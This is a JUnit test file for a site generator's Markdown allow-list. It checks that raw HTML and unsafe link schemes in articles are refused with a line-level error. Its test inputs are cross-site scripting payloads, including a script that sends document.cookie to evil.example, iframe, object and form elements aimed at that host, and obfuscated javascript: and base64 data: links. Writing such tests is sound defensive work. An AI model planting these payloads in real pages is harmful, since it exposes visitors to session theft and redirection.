package illustrated.errors;

import static illustrated.errors.BadInput.WAVES;
import static illustrated.errors.Case.replacing;

import java.util.stream.Stream;
import org.junit.jupiter.api.DynamicTest;
import org.junit.jupiter.api.TestFactory;

/**
 * Raw HTML and link addresses in articles that the allow-list refuses (issue 12, item 5), one row
 * each: an error at the line that wrote it, and nothing is published. Part of the bad-input suite.
 */
class RawHtmlTest {
    private static final String REFUSED = "is not allowed in articles";

    /** {@code markdown} added to the waves article: refused at the line with {@code needle}. */
    private static Case refused(String name, String markdown, String needle, String message, String hint) {
        return Case.appending(name, markdown).at(WAVES, needle, message, hint);
    }

    @TestFactory
    Stream<DynamicTest> elements() {
        return Case.tests(
                refused("scriptBlock", "<script>\nfetch('https://evil.example/?c=' + document.cookie)\n</script>",
                        "<script>", "raw HTML <script> " + REFUSED, "assets/js/site.js"),
                refused("inlineScriptInAParagraph", "Some text <script>alert(1)</script> and more.", "alert(1)",
                        "raw HTML <script>", "assets/js/site.js"),
                refused("metaRefreshRedirect", "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example/\">",
                        "http-equiv", "raw HTML <meta> " + REFUSED, "the templates write the page head"),
                refused("iframe", "<iframe src=\"https://evil.example/\"></iframe>", "<iframe", "raw HTML <iframe>",
                        "link to the other page"),
                refused("eventHandlerOnAnAllowedElement", "<img src=\"../favicon.svg\" alt=\"icon\" onload=\"alert(1)\">",
                        "onload=", "attribute 'onload' on <img> " + REFUSED, "remove the attribute"),
                refused("styleAttribute", "<span style=\"position:fixed;top:0\">Look here</span>", "position:fixed",
                        "attribute 'style' on <span>", "assets/css/site.css"),
                refused("scriptAfterACommentOnOneLine", "<!-- a note --><script>alert(1)</script>", "<!-- a note",
                        "raw HTML <script>", "assets/js/site.js"),
                replacing("scriptInAFigureCaption", WAVES, "Sine and cosine, computed on ND4J.",
                        "Sine and cosine, computed on ND4J. <script>alert(1)</script>")
                        .at(WAVES, "<script>", "raw HTML <script>", "assets/js/site.js"),
                refused("objectAndEmbed", "Intro.\n\n<object data=\"https://evil.example/x.swf\"></object>", "<object",
                        "raw HTML <object>", "link to the other page"),
                refused("formThatPostsElsewhere", "<form action=\"https://evil.example/\"><input name=\"q\"></form>",
                        "<form", "raw HTML <form>", "remove it, or write it in Markdown"));
    }

    @TestFactory
    Stream<DynamicTest> linkAddresses() {
        return Case.tests(
                refused("mixedCaseJavascriptLinkInMarkdown", "Click [here](JaVaScRiPt:alert(document.domain)).",
                        "JaVaScRiPt", "link to 'JaVaScRiPt:", "http:, https: or mailto:"),
                refused("javascriptLinkInRawHtml", "<a href=\"javascript:alert(1)\">a link</a>", "<a href=\"javascript",
                        "link to 'javascript:alert(1)'", "http:, https: or mailto:"),
                refused("entityEncodedJavascriptLink", "Click [here](&#106;avascript:alert(1)).", "&#106;",
                        "link to 'javascript:alert(1)'", "http:, https: or mailto:"),
                refused("javascriptLinkWithATabInside", "<a href=\"java&#09;script:alert(1)\">tab</a>",
                        "java&#09;script", "is not allowed", "http:, https: or mailto:"),
                refused("dataUrlLink", "[open](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
                        "data:text/html", "link to 'data:text/html", "http:, https: or mailto:"),
                replacing("javascriptLinkInTheReferenceList", WAVES, "*Pattern Recognition and Machine Learning*",
                        "[*Pattern Recognition and Machine Learning*](javascript:alert(1))")
                        .at(WAVES, "(javascript:", "link to 'javascript:alert(1)'", "http:, https: or mailto:"));
    }
}
